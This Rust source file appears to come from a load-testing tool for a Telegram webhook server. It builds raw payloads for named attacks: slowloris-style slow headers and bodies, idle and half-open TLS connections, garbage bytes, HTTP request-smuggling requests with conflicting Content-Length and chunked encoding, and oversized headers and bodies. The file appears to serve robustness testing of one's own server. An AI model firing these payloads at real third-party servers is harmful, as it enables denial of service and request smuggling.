//! What each attack sends.

use telegram_webhook_load::Attack;

use crate::{
    client::{Connector, Target},
    update::head,
};

/// One connection of an attack.
pub(super) struct Script {
    pub(super) tls: bool,
    pub(super) opening: Vec<u8>,
    pub(super) then: Then,
}

/// What follows the opening, until the server closes.
pub(super) enum Then {
    Wait,
    /// Again and again, with pauses.
    Drip(&'static [u8]),
    /// Again and again, without.
    Stream(Vec<u8>),
}

/// Enough that a write is worth its system call.
const CHUNK: usize = 64 << 10;

// === impl Script ===

impl Script {
    pub(super) fn of(attack: Attack, target: &Target, connector: &Connector) -> anyhow::Result<Self> {
        let request = |lines: &str| head(target, lines).into_bytes();
        let (tls, opening, then) = match attack {
            Attack::SlowHeads => {
                let mut head = request("");
                head.truncate(head.len() - 2);
                (true, head, Then::Drip(b"X-More: and more\r\n"))
            }
            Attack::SlowBodies => (true, request("Content-Length: 900\r\n"), Then::Drip(b"{")),
            Attack::IdleTcp => (false, Vec::new(), Then::Wait),
            Attack::IdleTls => (true, Vec::new(), Then::Wait),
            Attack::HalfOpenTls => (false, half_a_hello(connector)?, Then::Wait),
            Attack::Garbage => {
                let mut bytes = vec![0; 1024];
                getrandom::fill(&mut bytes)?;
                (false, bytes, Then::Wait)
            }
            Attack::Http2Preface => {
                let preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
                (true, preface.to_vec(), Then::Wait)
            }
            Attack::SmuggledLength => {
                let mut outer = request("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n");
                outer.extend_from_slice(b"0\r\n\r\n");
                outer.extend(request("Content-Length: 2\r\n"));
                outer.extend_from_slice(b"{}");
                (true, outer, Then::Wait)
            }
            Attack::SmuggledChunk => {
                let mut outer = request("Transfer-Encoding: chunked\r\n");
                outer.extend_from_slice(b"0x2\r\n{}\r\n+0;a=\"\n\"\r\n\r\n");
                outer.extend(request("Content-Length: 2\r\n"));
                outer.extend_from_slice(b"{}");
                (true, outer, Then::Wait)
            }
            Attack::ManyHeaders => (true, request(&"X-H: value\r\n".repeat(10_000)), Then::Wait),
            Attack::HugeBody => {
                (true, request(&format!("Content-Length: {}\r\n", 1 << 30)), Then::Stream(vec![b' '; CHUNK]))
            }
            Attack::HugeChunks => {
                let mut chunk = format!("{CHUNK:x}\r\n").into_bytes();
                chunk.resize(chunk.len() + CHUNK, b' ');
                chunk.extend_from_slice(b"\r\n");
                (true, request("Transfer-Encoding: chunked\r\n"), Then::Stream(chunk))
            }
        };
        Ok(Self { tls, opening, then })
    }
}

fn half_a_hello(connector: &Connector) -> anyhow::Result<Vec<u8>> {
    let mut connection = rustls::ClientConnection::new(connector.config(), connector.host())?;
    let mut hello = Vec::new();
    connection.write_tls(&mut hello)?;
    hello.truncate(hello.len() / 2);
    Ok(hello)
}
